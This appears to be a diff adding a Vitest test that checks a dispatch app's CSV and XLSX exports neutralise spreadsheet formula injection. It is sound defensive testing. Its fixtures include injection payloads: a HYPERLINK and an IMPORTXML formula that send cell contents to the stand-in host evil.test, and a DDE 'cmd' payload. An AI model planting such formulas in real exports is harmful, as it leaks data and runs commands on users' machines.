@@ -1,0 +1,100 @@
+// Fault 20: every free text of an order and of an account begins a formula, and a list with them is exported.
+import { user } from '@despacho/contract/users.ts';
+import { sampleController, sampleOrder } from '@despacho/contract/samples.ts';
+import { views } from '@despacho/contract/views.ts';
+import { parse } from 'csv-parse/sync';
+import { strFromU8, unzipSync } from 'fflate';
+import { describe, expect, inject, it } from 'vitest';
+import { randomFor } from '../../services/src/demo/random.ts';
+import { orderColumns } from '../../web/src/entities/orders/columns.tsx';
+import { listedOrder } from '../../web/src/entities/orders/listed.ts';
+import { userColumns } from '../../web/src/entities/users/columns.ts';
+import { csvOf } from '../../web/src/kit/export/csv.ts';
+import type { Sheet } from '../../web/src/kit/export/sheet.ts';
+import { xlsxOf } from '../../web/src/kit/export/xlsx.ts';
+import type { Columns } from '../../web/src/kit/grid/column.ts';
+import { SEED, sized } from './support/size.ts';
+import { appendRow } from './support/table.ts';
+
+const NOW = Date.parse('2026-11-21T18:00:00.000Z');
+const BLANKS = ['', ' ', '\t', '\r\n', '\u00A0', '\0', '\uFEFF'];
+const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+const BODIES = [
+  'HYPERLINK("http://evil.test?d="&A1,"clic")',
+  `cmd|' /C calc'!A0`,
+  'SUM(1,1)*1',
+  '2+5;1,"x"\n=1+1',
+  '1-1',
+  'IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
+];
+
+/** What a program would run when it opened the cell: judged here on its own, whatever made the cell safe. */
+const isRunnable = (cell: string): boolean =>
+  /^[\s\0\uFEFF]*[=+\-@＝＋－＠]/u.test(cell) && !/^\+?[\d ()-]+$/.test(cell) && !/^-?[\d.]+$/.test(cell);
+
+const sheetOf = <T>(columns: Columns<T>, rows: readonly T[]): Sheet => ({
+  name: 'fault',
+  title: '=1+1',
+  columns: columns.map(({ header, kind }) => ({ header, kind, width: 100 })),
+  rows: rows.map((row) => columns.map(({ value }) => value(row))),
+});
+
+const csvCells = (sheet: Sheet): string[] =>
+  parse(csvOf(sheet), { bom: true, columns: false, relax_column_count: false }).flat();
+
+const xlsxTexts = async (sheet: Sheet): Promise<{ texts: string[]; formulas: number }> => {
+  const files = unzipSync(new Uint8Array(await (await xlsxOf(sheet)).arrayBuffer()));
+  const xml = Object.values(files)
+    .map((bytes) => strFromU8(bytes))
+    .join('');
+  const texts = [...xml.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(([, text = '']) => text.replaceAll('&amp;', '&'));
+  return { texts, formulas: xml.match(/<f[ >]/g)?.length ?? 0 };
+};
+
+describe('formulas in exported cells', () => {
+  it('[A-169] none of them runs, and phone numbers can still be called', async () => {
+    const random = randomFor(SEED, 'formulas');
+    const hostile = (): string => random.pick(BLANKS) + random.pick(SIGNS) + random.pick(BODIES);
+    const ids = ['number', 'customer', 'company', 'branch', 'courier', 'address', 'phone', 'municipality'] as const;
+    const orders = Array.from({ length: sized(500, 20_000) }, (_, index) =>
+      listedOrder(
+        views.staff.order.parse(
+          sampleOrder({
+            id: `o${index}`,
+            number: hostile(),
+            customerName: hostile(),
+            company: { id: 'c', name: hostile() },
+            branch: { id: 'b', name: hostile(), position: null },
+            courier: { id: 'k', name: hostile() },
+            address: hostile(),
+            municipality: hostile(),
+            phone: '55551111',
+          }),
+        ),
+        null,
+        NOW,
+      ),
+    );
+    const users = Array.from({ length: sized(200, 5_000) }, (_, index) =>
+      user.parse(sampleController({ id: `u${index}`, firstName: hostile(), lastName: hostile(), email: hostile() })),
+    );
+
+    const sheets = [sheetOf(orderColumns(ids), orders), sheetOf(userColumns, users)];
+    const cells = sheets.flatMap(csvCells);
+    const books = await Promise.all(sheets.map(xlsxTexts));
+    const runnable = [...cells, ...books.flatMap(({ texts }) => texts)].filter(isRunnable);
+    const phones = cells.filter((cell) => cell === '+502 5555-1111').length;
+    appendRow(inject('faultRows'), {
+      fault: '20',
+      what: `${cells.length} hostile cells exported`,
+      lost: orders.length - phones,
+      breaches: runnable.length,
+      convergedMs: null,
+      note: `${phones} phone numbers as they were`,
+    });
+    expect(runnable).toEqual([]);
+    expect(books.map(({ formulas }) => formulas)).toEqual([0, 0]);
+    expect(phones).toBe(orders.length);
+    expect(cells.length).toBeGreaterThan(orders.length * ids.length);
+  });
+});
